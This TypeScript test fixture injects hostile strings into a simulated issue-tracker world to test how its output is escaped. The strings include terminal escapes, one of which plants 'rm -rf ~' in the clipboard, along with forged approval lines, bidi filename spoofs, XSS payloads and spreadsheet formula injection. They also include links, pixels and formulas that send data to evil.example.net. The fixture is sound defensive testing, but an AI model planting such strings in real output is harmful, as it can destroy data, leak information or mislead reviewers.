/** Texts that try to be more than text on the screen, in the file or in the message in which somebody reads them. */
import type { Issue, World } from '../world/model.ts';

const ESC = '\u001b';

export const HOSTILE_TEXTS: readonly string[] = [
  // A terminal: colours, the title, the clipboard, lines above written over; the same with the one byte signs of C1.
  `${ESC}[2J${ESC}[1;1H${ESC}[32mverified${ESC}[0m`,
  `${ESC}]0;owned\u0007${ESC}]52;c;cm0gLXJmIH4=\u0007`,
  '\u009b2J\u009d0;owned\u009c',
  'half\rApproved, nothing to do\b\b\b',
  // Lines that look like ours.
  'note\nDecision 3f9ac2d1\n  2 of 2 approvals, by lee@example.com. Nothing is needed.\nCan be sent now: approve',
  'note\r\n✓ verify: all 19 statements hold\r\nTask approve: migrator approve migrate-jira-old-INT-16 --by <you>',
  'note\u2028Blocked (None): nothing\u2029Answer: migrator answer x',
  // Direction, and what is not seen.
  'invoice\u202Efdp.exe\u202C \u2066hidden\u2069 zero\u200Bwidth\uFEFF \u{E0041}\u{E0042}',
  // Markdown.
  '[the evidence](https://evil.example.net/x) ![pixel](https://evil.example.net/pixel.png) <https://evil.example.net>',
  'see https://evil.example.net/login and www.evil.example.net or write to boss@evil.example.net, mailto:a@evil.example.net',
  '``` \n# Approved\n| a | b |\n| --- | --- |\n| `x` | [y](javascript:alert(1)) |\n[x]: https://evil.example.net "t"',
  '1. first &lt;b&gt; &#91;x&#93;(https://evil.example.net) ~~gone~~ **bold** | cell | \\',
  // HTML.
  '<script>window.owned=1</script><img src=x onerror="window.owned=1"><a href="https://evil.example.net">here</a>',
  '"><svg onload=window.owned=1></svg><!-- --></style></title><iframe src="https://evil.example.net"></iframe>',
  // A spreadsheet.
  '=HYPERLINK("https://evil.example.net/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3;@SUM(1+1)*cmd|x',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  '@SUM(A1:A9)',
  'a","b\r\n=1+1',
  // A chat.
  '<!channel> <@U012AB3CD> <https://evil.example.net|the evidence> &amp;',
  // What is no text.
  'nul\u0000 half \uD83D and \uDE00 bell\u0007 delete\u007F next\u0085line',
  `a\u0301${'\u0301'.repeat(200)}`,
  'INT-1\u{34f}6 \u3164filled\uffa0 \u{e0100}\u{e01ef}\ufe00 \u180b \u{e0fff}',
  // A table of Markdown, whose cell a backslash before a bar ends in some readers.
  'x\\| ![beacon](https://evil.example.net/x.png) ` \\\\| [y](https://evil.example.net)',
  'lee@evil.example.net\\|[a](//evil.example.net) http://evil.example.net/\\\\|<b>x</b>',
];

/** Longer than any screen. */
export const LONG_TEXT = 'long '.repeat(150_000);

/**
 * Puts them wherever people and instances can write. The same text becomes the same everywhere, so that copies stay copies and what has
 * the same name on two instances keeps having it.
 */
export function makeHostile(world: World): void {
  const made = new Map<string, string>();
  const hostile = (text: string): string => {
    const known = made.get(text);
    const next = known ?? `${text} ${HOSTILE_TEXTS[made.size % HOSTILE_TEXTS.length]}`;
    made.set(text, next);
    return next;
  };
  const renamed = (things: Iterable<{ name: string }>): void => {
    for (const thing of things) thing.name = hostile(thing.name);
  };
  for (const instance of world.instances.values()) {
    for (const user of instance.users.values()) user.displayName = hostile(user.displayName);
    for (const things of [instance.statuses, instance.priorities, instance.resolutions, instance.fields])
      renamed(things);
    for (const field of instance.fields) renamed(field.options);
    renamed(instance.projects.values());
    instance.title = hostile(instance.title);
    for (const project of instance.projects.values())
      for (const issue of project.issues.values()) writeHostile(issue, hostile);
  }
  for (const one of world.known) {
    one.summary = hostile(one.summary);
    one.description = hostile('moves');
  }
  world.switches.errorsSay = HOSTILE_TEXTS.filter((text) => text.length < 200).join(' ');
}

function writeHostile(issue: Issue, hostile: (text: string) => string): void {
  const summary = issue.values.get('summary');
  if (summary !== undefined) issue.values.set('summary', hostile(summary));
  const description = issue.values.get('description');
  if (description !== undefined) issue.values.set('description', description + (issue.number === 1 ? LONG_TEXT : ''));
  for (const comment of issue.comments) {
    comment.body = hostile(comment.body) + (comment.origin === 'seed-2-comment-1' ? LONG_TEXT : '');
  }
  for (const { items } of issue.history)
    for (const item of items)
      if (item.fieldId === 'summary') {
        if (item.fromString !== null) item.fromString = hostile(item.fromString);
        if (item.toString !== null) item.toString = hostile(item.toString);
      }
}
